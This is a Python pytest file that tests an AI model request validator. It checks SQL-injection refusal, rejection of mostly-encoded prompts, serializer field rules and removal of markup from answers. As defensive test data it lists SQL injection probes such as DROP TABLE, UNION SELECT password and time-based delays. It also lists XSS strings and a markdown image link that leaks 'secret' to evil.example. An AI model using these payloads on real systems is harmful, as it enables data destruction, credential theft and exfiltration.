"""The seed's validation of assistant requests: injection, entropy, sanitizing, the fields."""

from __future__ import annotations

import base64
import random
import uuid

import pytest

from apps.security.prompts.entropy import MAX_ENCODED_SHARE, check_entropy, encoded_share
from apps.security.prompts.injection import injection_rule, prevent_injection
from apps.security.prompts.sanitize import StreamSanitizer, sanitize_answer
from apps.security.prompts.serializers import PromptRequestSerializer, injection_rejected

# The seed's pen-test payloads, and a few more probes of the same shapes.
PROBES = [
    "'; DROP TABLE users; --",
    "1 UNION SELECT password FROM users --",
    "admin' --",
    "admin' #",
    "x') /*",
    "' OR '1'='1",
    "1 OR 1=1",
    "1; DELETE FROM auth_user",
    "1 union/**/all/**/select null",
    "1 AND SLEEP(5)",
    "'; WAITFOR DELAY '0:0:5'--",
    "select table_name from information_schema.tables",
]

# Ordinary questions that must pass untouched (the false positives to avoid).
QUESTIONS = [
    "which jobs abended on FTA006 since 02:00?",
    "why is stream PAYROLL late?",
    "how many jobs are held?",
    "why did PAY_RUN#01 fail?",
    "What's wrong with O'Brien's job?",
    "is 'PAYROLL' -- the nightly one -- late?",
    'jobs named "PAY" or like PAYROLL',
    "show jobs -- all of them",
    "jobs with # in the name --",
    "what is 'PAY_RUN#01'?",
    "status of 'X'#1?",
    "Café à Paris : état des jobs de la nuit ? Ça a échoué ?",
    "select the jobs that failed from FTA006",
    "union of jobs on FTA006 and FTA007",
    "hold PAYROLL; then drop me a note",
    "what does return code 1=1 mean",
    "rerun PAY_RUN#01 please; it failed with RC=12",
    "compare job 3f2b8c1e-9d4a-4bbb-8ccc-0123456789ab with yesterday",
    "status of PAYROLL_NIGHTLY_EXTRACT_STEP_01_FINAL?",
]


@pytest.mark.parametrize("probe", PROBES)
def test_it_refuses_injection_probes_naming_injection(probe):
    assert injection_rule(probe) is not None
    with pytest.raises(ValueError, match="injection"):
        prevent_injection(probe)


@pytest.mark.parametrize("question", QUESTIONS)
def test_ordinary_questions_pass_untouched(question):
    serializer = PromptRequestSerializer(data={"prompt": question})

    assert serializer.is_valid(), serializer.errors
    assert serializer.validated_data["prompt"] == question


def _random_base64(size: int, seed: int) -> str:
    return base64.b64encode(random.Random(seed).randbytes(size)).decode()


@pytest.mark.parametrize(
    "prompt",
    [
        _random_base64(300, 1),
        "decode this: " + _random_base64(200, 2),
        random.Random(3).randbytes(64).hex(),
        "what is " + random.Random(4).randbytes(80).hex() + " ?",
    ],
)
def test_it_refuses_prompts_that_are_mostly_encoded_data(prompt):
    with pytest.raises(ValueError, match="mostly encoded or random data"):
        check_entropy(prompt)


def test_one_checksum_in_a_real_question_passes():
    digest = random.Random(5).randbytes(32).hex()
    prompt = f"the file with sha256 {digest} was loaded by job PAYROLL: did it finish, and when?"

    encoded, share = encoded_share(prompt)

    assert encoded == 64
    assert 0.5 < share < MAX_ENCODED_SHARE
    check_entropy(prompt)


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"prompt": ""}, "prompt"),
        ({"prompt": "   "}, "prompt"),
        ({"prompt": 5}, "prompt"),
        ({"prompt": True}, "prompt"),
        ({"prompt": "ok", "model": 4}, "model"),
        ({"prompt": "x" * 10_001}, "prompt"),
        ({"prompt": "ok", "model": "gpt 4"}, "model"),
        ({"prompt": "ok", "model": "m" * 101}, "model"),
        ({"prompt": "ok", "model": "<script>"}, "model"),
        ({"prompt": "ok", "request_id": "not-a-uuid"}, "request_id"),
        ({"prompt": "ok", "client_ip": "999.1.1.1"}, "client_ip"),
        ({"prompt": "ok", "temperature": 2}, "temperature"),
    ],
)
def test_the_request_serializer_applies_the_seed_rules(data, field):
    serializer = PromptRequestSerializer(data=data)

    assert not serializer.is_valid()
    assert field in serializer.errors


def test_a_request_with_every_field_valid_passes():
    data = {
        "prompt": "x" * 10_000,
        "model": "meta-llama/Llama-3.1-8B-Instruct",
        "request_id": str(uuid.uuid4()),
        "client_ip": "2001:db8::1",
    }
    assert PromptRequestSerializer(data=data).is_valid()


def test_an_injection_refusal_is_told_apart_from_other_errors():
    probe = PromptRequestSerializer(data={"prompt": "admin' --"})
    blob = PromptRequestSerializer(data={"prompt": _random_base64(300, 6)})

    assert not probe.is_valid()
    assert injection_rejected(probe)
    assert "injection" in str(probe.errors["prompt"][0])
    assert not blob.is_valid()
    assert not injection_rejected(blob)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ('<img src=x onerror="alert(1)">', '&lt;img src=x onerror="alert(1)"&gt;'),
        ("![x](https://evil.example/?q=secret)", "x"),
        ("see [docs](javascript:alert(1))", "see docs)"),
        ("[ref]: https://evil.example\nok", "\nok"),
        ("A & B <!-- c -->", "A &amp; B &lt;!-- c --&gt;"),
        ("**PAY_RUN#01** failed:\n- RC 12", "**PAY_RUN#01** failed:\n- RC 12"),
        ("bell\x07 and \u202eevil", "bell and evil"),
    ],
)
def test_answers_keep_no_markup(text, expected):
    assert sanitize_answer(text) == expected


@pytest.mark.parametrize("size", [1, 2, 3, 5, 11])
def test_a_streamed_answer_is_sanitized_as_the_whole(size):
    text = "Job <b>X</b> & ![i](http://e/?d=1) see [d](http://e) and [x] here.\n[r]: http://e\nend!"
    sanitizer = StreamSanitizer()

    pieces = [sanitizer.feed(text[i : i + size]) for i in range(0, len(text), size)]

    assert "".join(pieces) + sanitizer.finish() == sanitize_answer(text)
